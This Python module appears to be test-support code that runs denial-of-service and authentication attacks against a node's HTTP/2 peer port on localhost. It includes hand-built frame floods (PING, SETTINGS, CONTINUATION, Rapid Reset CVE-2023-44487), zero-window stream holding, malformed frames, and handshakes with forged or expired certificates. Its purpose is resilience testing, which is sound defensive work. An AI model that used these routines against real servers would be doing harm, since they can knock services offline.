"""Attacks on a peer port without gRPC: bytes, broken handshakes, and HTTP/2 frames made by hand.

An attack is a function of a `Target` that is called again and again in a thread until the test has seen enough. It
returns how many connections or frames it made, and what it leaves open in `target.held` is closed afterwards.
"""

from __future__ import annotations

import os
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from chain.signing import SigningKey
from node.p2p.tls import Leaf
from support.faults.strangers import forge_leaf, own_leaf

SOCKET_S = 5.0  # for any one step of an attacker
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 4

Attack = Callable[["Target"], int]


@dataclass
class Target:
    """The port of a node, the identities it accepts and refuses, and the connections that an attacker keeps open."""

    port: int
    member: ssl.SSLContext
    strangers: tuple[ssl.SSLContext, ...]
    held: list[socket.socket] = field(default_factory=list)
    max_held: int = 2000

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=SOCKET_S)

    def hold(self, connection: socket.socket) -> None:
        """Keeps a connection open; closes the oldest to make room."""
        self.held.append(connection)
        if len(self.held) > self.max_held:
            self.held.pop(0).close()

    def release(self) -> None:
        while self.held:
            self.held.pop().close()

    @contextmanager
    def open_http2(self, *settings: tuple[int, int]) -> Iterator[ssl.SSLSocket]:
        """Opens a connection as a member, past the handshake and the settings. A disconnection by the node is not an
        error."""
        with suppress(OSError), self.connect() as plain, self.member.wrap_socket(plain) as secure:
            body = b"".join(struct.pack(">HI", key, value) for key, value in settings)
            secure.sendall(PREFACE + frame(SETTINGS, 0, 0, body))
            yield secure


def make_target(port: int, member: SigningKey, path: Path) -> Target:
    """Makes the target. Its strangers are a caller without a certificate, a key that is no member's, a certificate that
    forges a member's name, and an expired one."""
    stranger = SigningKey.from_private_bytes(os.urandom(32))
    leaves = (
        None,
        own_leaf(stranger),
        forge_leaf(member.id, stranger),
        forge_leaf(member.id, member, days=-1),
        forge_leaf(stranger.id, stranger),
    )
    strangers = tuple(_make_context(leaf, path) for leaf in leaves)
    return Target(port, _make_context(own_leaf(member), path), strangers)


def _make_context(leaf: Leaf | None, path: Path) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if leaf is not None:
        file = path / f"leaf-{os.urandom(4).hex()}.pem"
        file.write_bytes(leaf.certificate + leaf.private_key)
        context.load_cert_chain(file)
    return context


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Makes an HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def make_request_headers(method: str) -> bytes:
    """Makes an HPACK block of literals that begins a gRPC call, without an entry in the dynamic table."""
    path = f"/fednode.v1.Peer/{method}".encode()

    def literal(name: bytes, value: bytes) -> bytes:
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    known = b"\x83\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01\x04peer"  # POST, https, :path, :authority
    return known + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")


# ---- from outside: no key, no certificate, or a wrong one


def send_garbage(target: Target) -> int:
    """Sends bytes that are no TLS, small and large, on connections that stay open as long as the node allows."""
    for size in (1, 5, 100, 16_384, 200_000):
        connection = target.connect()
        with suppress(OSError):
            connection.sendall(os.urandom(size))
        target.hold(connection)
    return 5


def send_plain_http2(target: Target) -> int:
    """Sends HTTP/2 without TLS."""
    connection = target.connect()
    with suppress(OSError):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    target.hold(connection)
    return 1


def hold_half_handshakes(target: Target) -> int:
    """Sends hellos that are cut in the middle, or whole and followed by nothing."""
    hello = make_hello(target.strangers[0])
    for part in (hello[:1], hello[: len(hello) // 2], hello):
        connection = target.connect()
        with suppress(OSError):
            connection.sendall(part)
        target.hold(connection)
    return 3


def make_hello(context: ssl.SSLContext) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = context.wrap_bio(incoming, outgoing)
    with suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return outgoing.read()


def show_wrong_certificates(target: Target) -> int:
    """Makes whole handshakes that the node has to refuse, each followed by a request. AssertionError when it
    answers."""
    for context in target.strangers:
        try:
            with target.connect() as plain, context.wrap_socket(plain) as secure:
                secure.sendall(PREFACE + frame(SETTINGS, 0, 0))
                answer = secure.recv(1)
        except OSError:  # an alert: with TLS 1.3 the client receives it only when it reads
            continue
        assert answer == b"", "the node speaks to a stranger"
    return len(target.strangers)


def connect_and_close(target: Target) -> int:
    for _ in range(200):
        target.connect().close()
    return 200


# ---- from inside: a member's own key


def flood_settings(target: Target) -> int:
    return _flood(target, frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)) * 200)


def flood_pings(target: Target) -> int:
    return _flood(target, frame(PING, 0, 0, bytes(8)) * 200)


def flood_empty_data(target: Target) -> int:
    """Sends empty frames, on an open call."""
    begin = frame(HEADERS, END_HEADERS, 1, make_request_headers("Push"))
    return _flood(target, frame(DATA, 0, 1) * 500, begin)


def flood_window_updates(target: Target) -> int:
    return _flood(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200)


def flood_unknown_frames(target: Target) -> int:
    return _flood(target, frame(0xFA, 0, 0, bytes(1000)) * 50)


def reset_rapidly(target: Target) -> int:
    """Opens and resets calls at once (CVE-2023-44487)."""
    headers, count = make_request_headers("Push"), 0
    with target.open_http2() as connection:
        for first in range(1, 20_001, 200):
            streams = range(first, first + 200, 2)
            connection.sendall(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    for stream in streams
                )
            )
            count += len(streams)
            drain(connection)
    return count


def open_many_streams(target: Target) -> int:
    """Opens thousands of calls on one connection, which never send anything or read an answer."""
    headers, count = make_request_headers("Blob"), 0
    with target.open_http2((INITIAL_WINDOW_SIZE, 0)) as connection:
        for first in range(1, 8_001, 200):
            streams = range(first, first + 200, 2)
            connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, headers) for stream in streams))
            count += len(streams)
            drain(connection)
        time.sleep(0.2)
    return count


def take_nothing(target: Target) -> int:
    """Requests everything, on connections whose window is zero, and keeps them."""
    headers = make_request_headers("Blocks")
    question = b"\x00" + struct.pack(">I", 5) + b"\x08\x00\x10\x80\x20"  # first 0, count 4096
    asked = b"".join(
        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, question)
        for stream in range(1, 100, 2)
    )
    with suppress(OSError):
        secure = target.member.wrap_socket(target.connect())
        target.hold(secure)
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
        secure.sendall(PREFACE + settings + asked)
    return 1


def send_endless_headers(target: Target) -> int:
    """Sends one HEADERS without its end, continued for as long as the node accepts it (CONTINUATION flood)."""
    more = frame(CONTINUATION, 0, 1, (b"\x00\x01x\x7f\x80\x01" + b"y" * 255) * 40) * 10
    return _flood(target, more, frame(HEADERS, 0, 1, make_request_headers("Push")))


def send_large_headers(target: Target) -> int:
    """Sends metadata far over the limit, call after call."""
    value = b"z" * 100
    extra = b"".join(b"\x00\x04" + f"k{i:03}".encode() + b"\x64" + value for i in range(140))
    count = 0
    with target.open_http2() as connection:
        for stream in range(1, 2001, 2):
            connection.sendall(frame(HEADERS, END_HEADERS, stream, make_request_headers("Push") + extra))
            count += 1
            drain(connection)
    return count


def break_frames(target: Target) -> int:
    """Sends frames that every reader must refuse: too long, on missing streams, of a wrong size, or with broken
    HPACK."""
    count = 0
    for broken in (
        b"\xff\xff\xff" + bytes([DATA, 0]) + bytes(4) + bytes(70_000),
        frame(DATA, 0, 0, b"x"),
        frame(DATA, 0, 7, b"x"),
        frame(CONTINUATION, END_HEADERS, 1, b""),
        frame(SETTINGS, 0, 0, b"\x00"),
        frame(SETTINGS, 0, 3, bytes(6)),
        frame(PING, 0, 0, b"x"),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(RST_STREAM, 0, 0, bytes(4)),
        frame(GOAWAY, 0, 0, b""),
        frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4)),
        frame(HEADERS, END_HEADERS, 2, make_request_headers("Push")),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 200),
        frame(HEADERS, END_HEADERS, 1, os.urandom(500)),
        os.urandom(2000),
    ):
        with target.open_http2() as connection:
            connection.sendall(broken)
            drain(connection)
            count += 1
    return count


def connect_as_member(target: Target) -> int:
    """Makes hundreds of whole handshakes, and keeps each connection open and idle."""
    for _ in range(20):
        with suppress(OSError):
            target.hold(target.member.wrap_socket(target.connect()))
    return 20


OUTSIDE: tuple[Attack, ...] = (
    send_garbage,
    send_plain_http2,
    hold_half_handshakes,
    show_wrong_certificates,
    connect_and_close,
)
INSIDE: tuple[Attack, ...] = (
    flood_settings,
    flood_pings,
    flood_empty_data,
    flood_window_updates,
    flood_unknown_frames,
    reset_rapidly,
    open_many_streams,
    take_nothing,
    send_endless_headers,
    send_large_headers,
    break_frames,
    connect_as_member,
)


def _flood(target: Target, burst: bytes, begin: bytes = b"") -> int:
    """Sends `burst` again and again on one connection until the node ends it, at most 300 times."""
    count = 0
    with target.open_http2() as connection:
        connection.sendall(begin)
        for _ in range(300):
            connection.sendall(burst)
            count += 1
            drain(connection)
    return count


def drain(connection: ssl.SSLSocket) -> None:
    """Reads what the node has answered so far, so that a full buffer at the attacker never ends the attack."""
    connection.settimeout(0.0)
    try:
        while connection.recv(65_536):
            pass
        raise ConnectionResetError
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        connection.settimeout(SOCKET_S)


__all__ = ["INSIDE", "OUTSIDE", "Attack", "Target", "make_target"]
